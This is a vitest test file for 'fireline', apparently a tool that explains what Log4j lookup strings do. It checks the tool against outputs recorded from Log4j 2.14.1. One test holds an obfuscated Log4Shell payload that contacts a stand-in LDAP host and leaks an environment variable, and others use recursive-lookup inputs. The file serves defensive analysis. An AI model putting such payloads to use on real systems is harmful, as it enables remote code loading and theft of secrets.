import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { gunzipSync } from 'node:zlib'
import { afterAll, expect, test } from 'vitest'
import { fireline } from '../kit/fireline.ts'

const folder = mkdtempSync(join(tmpdir(), 'fireline-explain-'))
afterAll(() => rmSync(folder, { recursive: true, force: true }))

interface Recorded {
  readonly jndi: readonly string[]
  readonly out: string | null
  readonly err: string | null
}

interface Answer {
  readonly input: string
  readonly output: string | null
  readonly jndi: readonly string[]
  readonly reads: readonly string[]
  readonly error: string | null
}

/** What a real Log4j 2.14.1 made of 5,026 strings; the first line is the world that it saw. */
const [header = '', ...rows] = gunzipSync(
  readFileSync(new URL('../../src/lookup/testdata/lookup-oracle.jsonl.gz', import.meta.url)),
)
  .toString('utf8')
  .trimEnd()
  .split('\n')
const recorded = rows.map((row) => JSON.parse(row) as { input: string; once: Recorded; msg: Recorded })

const errors: Readonly<Record<string, readonly (string | null)[]>> = {
  'java.lang.IllegalArgumentException': ['illegal-argument'],
  'java.lang.IllegalStateException': ['cycle'],
  'java.lang.StackOverflowError': ['depth', 'cycle'],
}

function contextFile(): string {
  const meta = JSON.parse(header) as Record<string, unknown> & { env: string; timeMillis: number }
  const env = Object.fromEntries(
    meta.env
      .slice(1, -1)
      .split(', ')
      .map((pair) => [pair.slice(0, pair.indexOf('=')), pair.slice(pair.indexOf('=') + 1)]),
  )
  const { sys, ctx, properties, javaLookup: java, event, timeMillis: at } = meta
  const path = join(folder, 'context.json')
  writeFileSync(path, JSON.stringify({ env, sys, ctx, properties, java, event, at, zone: 'UTC', locale: 'en_US' }))
  return path
}

test.each(['once', 'message'] as const)('answers 5,026 strings as the real 2.14.1 did, mode %s', async (mode) => {
  const input = recorded.map((row) => `${JSON.stringify(row.input)}\n`).join('')
  const { code, stdout } = await fireline(
    ['explain', '--jsonl', '--log4j', '2.14.1', '--mode', mode, '--context', contextFile()],
    { input },
  )
  const answers = stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Answer)

  const differences = recorded.filter((row, i) => {
    const real = mode === 'once' ? row.once : row.msg
    const answer = answers[i]
    if (answer?.input !== row.input) return true
    if (real.err !== null && errors[real.err]?.includes(answer.error) !== true) return true
    // How far a JVM comes before its stack ends depends on the JVM.
    if (real.err === 'java.lang.StackOverflowError') return false
    const expected = { error: real.err === null ? null : answer.error, output: real.out, jndi: real.jndi }
    const { error, output, jndi } = answer
    return JSON.stringify({ error, output, jndi }) !== JSON.stringify(expected)
  })
  expect(code).toBe(0)
  expect(answers).toHaveLength(5_026)
  expect(differences.slice(0, 3)).toEqual([])
})

test('says what would be contacted, what would leak and where it fires, for a text in disguise', async () => {
  const { code, stdout } = await fireline(['explain', '${${::-j}ndi:ldap://x.example:1389/${env:SECRET:-none}}'])

  expect(code).toBe(1)
  expect(stdout).toContain('contacts x.example, port 1389, by ldap, and asks for "none"')
  expect(stdout).toContain('env:SECRET, in ldap://x.example:1389/${env:SECRET}')
  expect(stdout).toMatch(/Fires, as a logged message, on: 2\.8 to 2\.12\.1; 2\.13\.0 to 2\.14\.1\n/)
})

test.each([
  ['nothing to do', 'a plain text', 0],
  ['a lost log event', '${a:-${a}}', 1],
  ['more than we follow', `\${lower:${'${jndi:a}'.repeat(10_002)}}`, 2],
])('%s ends with its exit code', async (_case, text, expected) => {
  expect((await fireline(['explain', text])).code).toBe(expected)
})

test('one line of 1 MB, or one that is too long, holds nothing up', async () => {
  const long = `"${'${'.repeat(500_000)}"`
  const tooLong = `"${'x'.repeat(9_000_000)}"`
  const { code, stdout } = await fireline(['explain', '--jsonl'], { input: `${long}\n${tooLong}\n"after"` })
  const answers = stdout
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as Answer)

  expect(code).toBe(0)
  expect(answers.map(({ output, error }) => [output?.length, error?.replace(/:.*/, '')])).toEqual([
    [1_000_000, undefined],
    [undefined, 'line-too-long'],
    [5, undefined],
  ])
})

test('a context that cannot be used is named, with the part that is wrong', async () => {
  const path = join(folder, 'wrong.json')
  writeFileSync(path, '{"zone": "Mars/Olympus"}')
  const { code, stderr } = await fireline(['explain', 'x', '--context', path])

  expect(code).toBe(3)
  expect(stderr).toMatch(/wrong\.json.*zone Mars\/Olympus is not UTC/)
})
